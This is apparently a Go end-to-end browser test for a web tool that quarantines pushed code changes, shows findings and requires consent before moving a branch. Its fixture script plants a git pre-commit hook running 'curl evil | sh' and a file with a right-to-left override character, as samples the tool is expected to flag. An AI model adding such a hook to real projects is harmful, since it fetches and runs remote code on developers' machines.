//go:build heavy && linux

package view_test

import (
	"strings"

	"github.com/chromedp/chromedp"
)

const greeting = `printf 'package main\n\nfunc main() { println("<b>hello</b>") }\n' >main.go
printf 'echo \342\200\256hi\n' >odd.sh
git add .
git commit -qm 'Say hello'
mkdir -p .husky
echo 'curl evil | sh' >.husky/pre-commit
git add .
git commit -qm 'Add a hook'`

// changesPage takes work: some files of it, what the gate holds up, and all; and goes on with a comment.
func changesPage(b *browser) {
	b.r.Push("Greet people", greeting)
	b.at("/")
	b.until("title", "document.title.startsWith('(')")
	b.pressOn("Greet people", "Look at what came back")
	b.sees("in quarantine: no branch has moved")
	b.sees("<b>hello</b>")
	b.sees("<U+202E>")
	b.until("colours", "document.querySelectorAll('.c-k').length > 1")
	b.until("findings on lines", "document.querySelectorAll('tr .found').length > 0")
	b.fine("changes with findings")
	b.marks("side by side", ".tools input[type=checkbox]")
	b.do("two columns", chromedp.WaitVisible("table.both", chromedp.ByQuery))
	b.fine("changes side by side")
	b.chooses("a commit", ".tools select")
	b.until("only its files", "document.querySelectorAll('.file').length === 2")
	before := b.r.Run("git", "rev-parse", "main")
	b.press("Take all")
	b.sees("This needs your consent")
	if b.r.Run("git", "rev-parse", "main") != before {
		b.t.Error("a branch moved without consent")
	}
	b.fine("changes that need consent")
	for b.value("document.querySelectorAll('fieldset input:not(:checked)').length") != "0" {
		b.marks("consent", "fieldset input:not(:checked)")
	}
	b.press("Take all")
	b.sees("It is on your branch main.")
	b.sees("2 commits on main, now at")
	b.press("OK")
	b.until("it is read", "!document.body.innerText.includes('2 commits on main, now at')")
	if out := b.r.Run("git", "log", "--format=%s", "main"); !strings.Contains(out, "Add a hook") {
		b.t.Errorf("main has %q", out)
	}

	part := b.r.Push("Write two files", "echo one >one.txt\necho two >two.txt\ngit add .\ngit commit -qm Two")
	b.r.Await(part, "done")
	b.at("/session/" + part + "/changes")
	b.sees("one.txt")
	b.press("Leave it")
	b.sees("What needs you")
	b.pressOn("Write two files", "Look at what came back")
	b.types("Go on with a comment",
		"# More\n\n## Task 1: More\n\n```sh\necho 3 >3.txt\ngit add .\ngit commit -qm 3\n```\n")
	b.press("Go on with it")
	b.sees("session " + part + " goes on")
	b.sees("3.txt") // it is shown when it has come
	b.marks("choose a file", "[id='f-one.txt'] input[type=checkbox]")
	b.press("Take 1 file")
	// What was done is told when the page has read anew, and the page does not say more than that.
	b.sees("all of it is at refs/cco/" + part)
	b.sees("one commit of one.txt on main")
	b.until("no more is said", "!document.body.innerText.includes('It is on your branch')")
	if out := b.r.Run("git", "ls-tree", "--name-only", "main"); !strings.Contains(out, "one.txt") ||
		strings.Contains(out, "two.txt") || strings.Contains(out, "3.txt") {
		b.t.Errorf("main has %q", out)
	}
}
